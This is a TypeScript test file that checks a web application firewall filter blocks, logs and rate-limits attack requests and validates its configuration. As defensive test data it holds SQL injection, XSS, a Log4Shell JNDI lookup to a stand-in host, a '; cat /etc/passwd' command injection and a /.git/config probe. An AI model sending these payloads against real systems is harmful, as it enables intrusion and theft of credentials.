/** The firewall as clients meet it: through a worker, before a real origin. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { ConfigInput } from '../../config/schema/config.ts';
import { validate } from '../../config/validate.ts';
import { checkLinearRegex } from '../../io/regex.ts';
import { planeTo, startPlane, type TestPlane } from '../../../test/support/data-plane.ts';
import { looksComplete, rawExchange } from '../../../test/support/raw-exchange.ts';

type Filters = NonNullable<ConfigInput['filters']>;
interface World extends AsyncDisposable {
  readonly world: TestPlane;
  /** Content of the requests that reached the origin. */
  readonly seen: string[];
}

async function behind(filters: Filters): Promise<World> {
  const seen: string[] = [];
  const server = createServer((asked, reply) => {
    void asked.toArray().then((pieces: Buffer[]) => {
      seen.push(Buffer.concat(pieces).toString('latin1'));
      reply.end('ok');
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const world = await startPlane(planeTo((server.address() as AddressInfo).port, { routes: [{ path: '/*', to: 'origin', filters }] }));
  return {
    world,
    seen,
    async [Symbol.asyncDispose]() {
      await world[Symbol.asyncDispose]();
      server.closeAllConnections();
      server.close();
    },
  };
}

interface Asked {
  readonly path?: string;
  readonly method?: string;
  readonly headers?: Record<string, string>;
  readonly body?: string | Buffer;
}

async function ask(
  { world }: World,
  { path = '/', method = 'GET', headers = {}, body = '' }: Asked,
): Promise<{ status: number; headers: IncomingHttpHeaders; body: string }> {
  const asked = request({
    port: world.port,
    host: '127.0.0.1',
    method,
    path,
    headers: { 'User-Agent': 'Mozilla/5.0', ...headers },
    agent: false,
  }).end(body);
  const [reply] = (await once(asked, 'response')) as [IncomingMessage];
  return { status: reply.statusCode!, headers: reply.headers, body: Buffer.concat(await reply.toArray()).toString() };
}

const JSON_TYPE = { 'Content-Type': 'application/json' };
const ATTACK = '/?id=1%27%20or%201=1--%20';

const eventsOf = ({ world }: World) =>
  world.said.filter((message) => message.type === 'event').filter(({ what }) => what.startsWith('waf'));

describe('a firewall', () => {
  test('lets ordinary requests pass, with their content as it was', async () => {
    await using origin = await behind(['waf']);
    assert.equal(
      (await ask(origin, { path: '/search?q=O%27Reilly+%26+Sons&page=2', headers: { Cookie: 'a=1; b=%7B%22c%22%3A1%7D' } })).status,
      200,
    );
    const body = JSON.stringify({ text: 'rock & roll; "quoted"', list: Array.from({ length: 2000 }, (_, index) => `item ${index}`) });
    assert.equal((await ask(origin, { method: 'POST', headers: JSON_TYPE, body })).status, 200);
    assert.equal(origin.seen[1], body);
  });

  const attacks: readonly (readonly [string, Asked])[] = [
    ['a query', { path: ATTACK }],
    ['a path', { path: '/.git/config' }],
    ['a cookie', { headers: { Cookie: 'a=1; b=%3Cscript%3Ealert(1)%3C/script%3E' } }],
    ['a header field', { headers: { 'X-Api-Version': '${jndi:ldap://x.example/a}' } }],
    ['the name of a program', { headers: { 'User-Agent': 'sqlmap/1.8' } }],
    ['a form', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'a=1&b=%3B+cat+%2Fetc%2Fpasswd' }],
    ['JSON', { method: 'POST', headers: JSON_TYPE, body: '{"a":{"b":["x","1 union select password from users"]}}' }],
    [
      'a part of multipart',
      {
        method: 'POST',
        headers: { 'Content-Type': 'multipart/form-data; boundary=XX' },
        body: '--XX\r\nContent-Disposition: form-data; name="a"; filename="x.php"\r\n\r\nx\r\n--XX--\r\n',
      },
    ],
    [
      'content in gzip',
      { method: 'POST', headers: { ...JSON_TYPE, 'Content-Encoding': 'gzip' }, body: gzipSync('{"a":"<script>alert(1)</script>"}') },
    ],
    ['content that says nothing of itself', { method: 'POST', body: 'a=<script>alert(1)</script>' }],
    ['a method', { method: 'PROPFIND' }],
    ['a character set that hides', { method: 'POST', headers: { 'Content-Type': 'text/plain; charset=utf-7' }, body: 'x' }],
  ];
  for (const [where, asked] of attacks) {
    test(`refuses an attack in ${where}, and says by what number it can be asked for`, async () => {
      await using origin = await behind(['waf']);
      const { status, headers, body } = await ask(origin, asked);
      assert.equal(status, 403);
      assert.match(body, /^This request was refused\. Its number: [0-9a-z-]+\n$/);
      assert.ok(body.includes(String(headers['x-request-id'])));
      assert.deepEqual(origin.seen, []);
      const [event] = eventsOf(origin);
      assert.equal(event!.detail['request'], headers['x-request-id']);
      assert.equal(event!.what, 'waf blocked');
    });
  }

  test('tells of the rule, the place and the score, and nothing that could do harm', async () => {
    await using origin = await behind(['waf']);
    await ask(origin, { path: `/?name%0a=${encodeURIComponent(`<script>\n\u001b[31m${'x'.repeat(500)}`)}` });
    const { detail } = eventsOf(origin)[0]!;
    assert.deepEqual(
      [detail['rules'], detail['category'], detail['target'], detail['name'], detail['score']],
      ['4100', 'xss', 'query', 'name.', 5],
    );
    assert.match(String(detail['sample']), /^[\x20-\x7e]{1,64}$/);
  });

  test('shows nothing of what was found where it must not', async () => {
    await using origin = await behind([{ waf: { logSample: false } }]);
    await ask(origin, { path: ATTACK });
    assert.equal('sample' in eventsOf(origin)[0]!.detail, false);
  });

  test('tells of a storm in a few events', async () => {
    await using origin = await behind(['waf']);
    for (let index = 0; index < 60; index++) await ask(origin, { path: ATTACK });
    assert.equal(eventsOf(origin).length, 20);
    origin.world.advance(2_000);
    await ask(origin, { path: ATTACK });
    assert.equal(eventsOf(origin).at(-1)!.detail['untold'], 40);
  });

  test('that only detects lets attacks pass and names all rules', async () => {
    await using origin = await behind([{ waf: { mode: 'detect' } }]);
    const { status } = await ask(origin, {
      path: `${ATTACK}&b=%3Cscript%3E`,
      method: 'POST',
      headers: JSON_TYPE,
      body: '{"a":"${jndi:x}"}',
    });
    assert.equal(status, 200);
    const [event] = eventsOf(origin);
    assert.equal(event!.what, 'waf detected');
    assert.deepEqual(String(event!.detail['rules']).split(',').toSorted(), ['4100', '4201', '4500']);
  });

  test('looks past what is excluded, there and nowhere else', async () => {
    await using origin = await behind([
      { waf: { exclude: [{ categories: 'xss', path: '/editor/*', parameter: 'html' }, { rules: 4201 }] } },
    ]);
    const statuses = [];
    for (const path of ['/editor/1?html=%3Cscript%3E', '/editor/1?text=%3Cscript%3E', '/blog?html=%3Cscript%3E', ATTACK])
      statuses.push((await ask(origin, { path })).status);
    assert.deepEqual(statuses, [200, 403, 403, 200]);
  });

  test('refuses content that is longer than it looks at, or looks at its beginning', async () => {
    const long = JSON.stringify({ a: 'x'.repeat(200_000), b: '<script>alert(1)</script>' });
    const early = JSON.stringify({ b: '<script>alert(1)</script>', a: 'x'.repeat(200_000) });
    const post = { method: 'POST', headers: JSON_TYPE };
    await using strict = await behind(['waf']);
    assert.equal((await ask(strict, { ...post, body: long })).status, 413);
    await using lenient = await behind([{ waf: { body: { large: 'inspect-part' } } }]);
    assert.equal((await ask(lenient, { ...post, body: long })).status, 200);
    assert.equal(lenient.seen[0], long);
    assert.equal((await ask(lenient, { ...post, body: early })).status, 403);
    await using wide = await behind([{ waf: { body: { limit: '1MiB' } } }]);
    assert.equal((await ask(wide, { ...post, body: long })).status, 403);
  });

  test('refuses content that inflates to more than it looks at, or that it cannot read', async () => {
    await using origin = await behind(['waf']);
    const post = { method: 'POST', headers: { ...JSON_TYPE, 'Content-Encoding': 'gzip' } };
    assert.equal((await ask(origin, { ...post, body: gzipSync('x'.repeat(2_000_000)) })).status, 413);
    assert.equal((await ask(origin, { ...post, body: 'no gzip' })).status, 415);
    assert.equal((await ask(origin, { ...post, headers: { ...JSON_TYPE, 'Content-Encoding': 'x-odd' }, body: '{}' })).status, 415);
  });

  test('lets binary content pass unread, without waiting for it', async () => {
    await using origin = await behind(['waf']);
    const body = Buffer.alloc(300_000, "' or 1=1 <script>");
    assert.equal((await ask(origin, { method: 'PUT', headers: { 'Content-Type': 'image/png' }, body })).status, 200);
    assert.equal(origin.seen[0], body.toString('latin1'));
  });

  test('allows the types of content that are named', async () => {
    await using origin = await behind([{ waf: { contentTypes: ['application/json', 'image/*'] } }]);
    const statuses = [];
    for (const type of ['application/json; charset=utf-8', 'image/png', 'text/xml'])
      statuses.push((await ask(origin, { method: 'POST', headers: { 'Content-Type': type }, body: '{}' })).status);
    assert.deepEqual(statuses, [200, 200, 403]);
  });

  test('sees more at a higher level, and adds scores up to the threshold', async () => {
    const path = '/?q=http%3A%2F%2F203.0.113.7%2F';
    for (const [options, status] of [
      [{}, 200],
      [{ paranoia: 2, threshold: 4 }, 403],
      [{ paranoia: 2 }, 403],
      [{ paranoia: 2, threshold: 20 }, 200],
    ] as const) {
      await using origin = await behind([{ waf: options }]);
      assert.equal((await ask(origin, { path })).status, status, JSON.stringify(options));
    }
  });

  test('has not seen that a program is harmless where it was told to look past it', async () => {
    await using origin = await behind([{ waf: { exclude: [{ rules: 4500, path: '/hook' }] } }]);
    const headers = { 'User-Agent': '${jndi:ldap://x.example/a}' };
    const statuses = [];
    for (const path of ['/hook', '/', '/hook', '/']) statuses.push((await ask(origin, { path, headers })).status);
    assert.deepEqual(statuses, [200, 403, 200, 403]);
  });

  test('refuses content of two types, of which each reader takes another', async () => {
    await using origin = await behind(['waf']);
    const request =
      'POST / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\nContent-Type: image/png\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=1';
    const { text } = await rawExchange(origin.world.port, request, { until: (seen) => looksComplete(seen, 'open') });
    assert.match(text, /^HTTP\/1\.1 40[03] /);
    assert.deepEqual(origin.seen, []);
  });

  test('looks at every field that an application may log', async () => {
    await using origin = await behind(['waf']);
    for (const name of ['Accept-Language', 'Content-Type', 'If-Modified-Since', 'Accept-Encoding'])
      assert.equal((await ask(origin, { headers: { [name]: '${jndi:ldap://x.example/a}' } })).status, 403, name);
  });

  test('answers with the status that is wanted', async () => {
    await using origin = await behind([{ waf: { status: 406 } }]);
    assert.equal((await ask(origin, { path: ATTACK })).status, 406);
  });
});

describe('a wrong configuration', () => {
  const faults = (waf: unknown): string => {
    const result = validate(
      {
        listeners: { web: { http: '127.0.0.1:8080' } },
        services: { a: { endpoints: ['127.0.0.1:1'] } },
        routes: [{ path: '/*', to: 'a', filters: [{ waf }] }],
      },
      checkLinearRegex,
    );
    return result.ok ? '' : JSON.stringify(result.faults);
  };
  for (const [waf, what] of [
    [{ paranoia: 5 }, 'must be a whole number 1..4'],
    [{ exclude: [{}] }, 'an exclusion of everything is no firewall'],
    [{ exclude: [{ rules: 942100 }] }, 'must be a whole number'],
    [{ exclude: [{ rules: 4999 }] }, 'must be the id of a rule'],
    [{ exclude: [{ path: 'admin' }] }, 'must be a path'],
    [{ mode: 'blok' }, "must be one of 'block', 'detect'"],
    [{ body: { limit: '1GiB' } }, 'must be a size'],
    [{ methods: ['get'] }, 'must be a method in upper case'],
    [{ modSecurity: {} }, 'modSecurity'],
  ] as const) {
    test(`is named: ${JSON.stringify(waf)}`, () => assert.ok(faults(waf).includes(what), faults(waf)));
  }
});
